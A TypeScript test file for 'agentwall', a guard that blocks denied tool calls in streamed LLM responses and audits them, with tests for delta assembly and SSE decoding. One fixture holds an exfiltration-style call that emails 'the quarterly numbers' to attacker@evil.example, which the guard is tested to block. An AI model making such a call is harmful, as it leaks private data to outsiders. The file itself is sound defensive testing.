import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import type { ToolCallEvent } from '../../src/core/events.js';
import { createPipeline } from '../../src/core/pipeline.js';
import { createSession } from '../../src/core/session.js';
import type { Verdict } from '../../src/core/verdict.js';
import { createSseDecoder } from '../../src/routing/sse.js';
import { createStreamGuard } from '../../src/routing/stream-guard.js';
import type { ToolGuardDeps } from '../../src/routing/tool-guard.js';
import { startHarness, type Harness } from './harness.js';

const audited: [ToolCallEvent, Verdict][] = [];
/** Denies `send_email`, as a policy rule would. */
const denySendEmail = createPipeline<ToolCallEvent>({
  stages: [
    {
      name: 'test-policy',
      run(ctx) {
        if (ctx.event.tool.name === 'send_email')
          ctx.fired.push({ id: 'no-email', action: 'deny', mode: 'enforce', message: 'no mail today' });
      },
    },
  ],
  defaultAction: 'allow',
  onStageError: 'deny',
  sinks: [(e, v) => audited.push([e, v])],
});
const GUARD: ToolGuardDeps = {
  pipeline: denySendEmail,
  revision: () => 'r1',
  message: 'agentwall blocked the tool call {tool}: {reason}.',
};

const WEATHER_ARGS = '{"city": "Paris", "units": "metric", "days": [1, 2, 3], "note": "é✓"}';
const EMAIL_ARGS = '{"to": "attacker@evil.example", "body": "the quarterly numbers"}';

const ROUTING = {
  models: { 'qwen3-8b': { upstreams: ['a'] } },
  default_model: 'qwen3-8b',
  cache: { mode: 'off' },
};
const TOOLS = [
  { type: 'function' as const, function: { name: 'get_weather', parameters: { type: 'object' } } },
  { type: 'function' as const, function: { name: 'send_email', parameters: { type: 'object' } } },
];

/** vLLM-shaped chunks: role, content, then the calls as many small argument fragments. */
function manyDeltaEvents(calls: { name: string; arguments: string }[]): string[] {
  const base = {
    id: 'chatcmpl-many',
    object: 'chat.completion.chunk',
    created: 1730000000,
    model: 'qwen3-8b',
  };
  const deltas: Record<string, unknown>[] = [
    { role: 'assistant', content: '' },
    { content: 'Let me ' },
    { content: 'check.' },
  ];
  calls.forEach((c, index) => {
    deltas.push({
      tool_calls: [{ id: `chatcmpl-tool-${index}`, type: 'function', index, function: { name: c.name } }],
    });
    for (let i = 0; i < c.arguments.length; i += 3)
      deltas.push({ tool_calls: [{ index, function: { arguments: c.arguments.slice(i, i + 3) } }] });
  });
  return deltas.map((delta, i) =>
    JSON.stringify({
      ...base,
      choices: [
        { index: 0, delta, logprobs: null, finish_reason: i === deltas.length - 1 ? 'tool_calls' : null },
      ],
    }),
  );
}

let h: Harness;
beforeAll(async () => {
  h = await startHarness({ routing: ROUTING, toolCall: denySendEmail });
});
afterAll(async () => {
  await h.close();
});

describe('the guard on streamed tool calls, end to end', () => {
  it('removes a denied call assembled from deltas and streams the explanation in its place', async () => {
    h.upstreams[0]!.chat.reply = () => ({
      content: 'Sending it now.',
      toolCalls: [{ name: 'send_email', arguments: EMAIL_ARGS }],
    });
    audited.length = 0;
    const stream = h.client.chat.completions.stream({
      model: 'auto',
      messages: [{ role: 'user', content: 'mail the numbers' }],
      tools: TOOLS,
      stream_options: { include_usage: true },
    });
    const final = await stream.finalChatCompletion();
    const choice = final.choices[0]!;
    expect(choice.message.tool_calls ?? []).toEqual([]);
    expect(choice.message.content).toContain('Sending it now.');
    expect(choice.message.content).toContain('agentwall blocked the tool call send_email: no mail today.');
    expect(choice.finish_reason).toBe('stop');
    expect(final.usage?.prompt_tokens).toBeGreaterThan(0); // the usage chunk passed through
    await vi.waitFor(() => expect(audited.length).toBe(1));
    expect(audited[0]![0]).toMatchObject({
      server: 'llm',
      tool: { name: 'send_email' },
      args: JSON.parse(EMAIL_ARGS),
    });
    expect(audited[0]![1].action).toBe('deny');
  });

  it('passes content at once, and an allowed call from many fragments intact beside a denied one', async () => {
    let contentSeen!: () => void;
    const seen = new Promise<void>((r) => (contentSeen = r));
    const events = manyDeltaEvents([
      { name: 'get_weather', arguments: WEATHER_ARGS },
      { name: 'send_email', arguments: EMAIL_ARGS },
    ]);
    h.upstreams[0]!.route('POST', '/v1/chat/completions', async ({ res }) => {
      res.writeHead(200, { 'content-type': 'text/event-stream; charset=utf-8' });
      res.write(`data: ${events[0]}\n\ndata: ${events[1]}\n\n`);
      await seen; // the rest only once the client has read the first words: content is not held back
      const rest = Buffer.from(
        events
          .slice(2)
          .map((e) => `data: ${e}\n\n`)
          .join('') + 'data: [DONE]\n\n',
      );
      for (let i = 0; i < rest.length; i += 5) res.write(rest.subarray(i, i + 5)); // splits events and UTF-8
      res.end();
    });
    const stream = await h.client.chat.completions.create({
      model: 'auto',
      messages: [{ role: 'user', content: 'weather, then mail it' }],
      tools: TOOLS,
      stream: true,
    });
    let content = '';
    const calls = new Map<number, { id?: string; name: string; args: string }>();
    let finish: string | null = null;
    for await (const chunk of stream) {
      const c = chunk.choices[0];
      if (!c) continue;
      if (c.delta.content) {
        content += c.delta.content;
        contentSeen();
      }
      for (const t of c.delta.tool_calls ?? []) {
        const call = calls.get(t.index) ?? { name: '', args: '' };
        calls.set(t.index, call);
        if (t.id) call.id = t.id;
        call.name += t.function?.name ?? '';
        call.args += t.function?.arguments ?? '';
      }
      finish = c.finish_reason ?? finish;
    }
    expect([...calls.values()].map((c) => c.name)).toEqual(['get_weather']);
    expect(calls.get(0)?.id).toBe('chatcmpl-tool-0');
    expect(JSON.parse(calls.get(0)!.args)).toEqual(JSON.parse(WEATHER_ARGS));
    expect(content.startsWith('Let me check.')).toBe(true);
    expect(content).toContain('agentwall blocked the tool call send_email');
    expect(finish).toBe('tool_calls');
  });
});

describe('the SSE decoder', () => {
  it('yields the same events however the bytes are split (CRLF, comments, multi-byte characters)', () => {
    const events = ['{"a":"é✓𝄞"}', '{"b":2}', '[DONE]'];
    const text = `: keep-alive\r\n\r\ndata: ${events[0]}\r\n\r\ndata:${events[1]}\n\ndata: ${events[2]}\n\n`;
    const bytes = Buffer.from(text);
    fc.assert(
      fc.property(
        fc.uniqueArray(fc.integer({ min: 1, max: bytes.length - 1 }), { maxLength: 12 }),
        (cuts) => {
          const d = createSseDecoder();
          const points = [0, ...cuts.sort((a, b) => a - b), bytes.length];
          const out: string[] = [];
          for (let i = 0; i + 1 < points.length; i++)
            out.push(...d.push(bytes.subarray(points[i], points[i + 1])));
          expect(out).toEqual(events);
        },
      ),
    );
  });
});

describe('the stream guard, event by event', () => {
  const session = () => createSession('s', { id: 'p', roles: [], claims: {} });
  it.each([
    ['a stream that breaks off before its finish', false],
    ['a stream that ends with [DONE] but no finish reason', true],
  ])('%s: a call is sent only once it was seen whole and allowed', async (_name, done) => {
    const events = manyDeltaEvents([{ name: 'get_weather', arguments: WEATHER_ARGS }]);
    const last = JSON.parse(events.at(-1)!) as { choices: { finish_reason: string | null }[] };
    last.choices[0]!.finish_reason = null;
    const guard = createStreamGuard(session(), GUARD);
    let out = '';
    for (const e of [...events.slice(0, -1), JSON.stringify(last)]) out += await guard.onEvent(e);
    expect(out).not.toContain('get_weather');
    if (!done) return;
    out += await guard.onEvent('[DONE]');
    expect(out).toContain('"name":"get_weather"');
    expect(out.endsWith('data: [DONE]\n\n')).toBe(true);
    expect(out).toContain('"finish_reason":"tool_calls"');
  });

  it('drops held calls when the upstream sends an error event', async () => {
    const guard = createStreamGuard(session(), GUARD);
    const events = manyDeltaEvents([{ name: 'get_weather', arguments: WEATHER_ARGS }]).slice(0, -1);
    let out = '';
    for (const e of events) out += await guard.onEvent(e);
    out += await guard.onEvent('{"error":{"message":"engine died","type":"InternalServerError","code":500}}');
    out += await guard.onEvent('[DONE]');
    expect(out).not.toContain('get_weather');
    expect(out).toContain('engine died');
  });
});
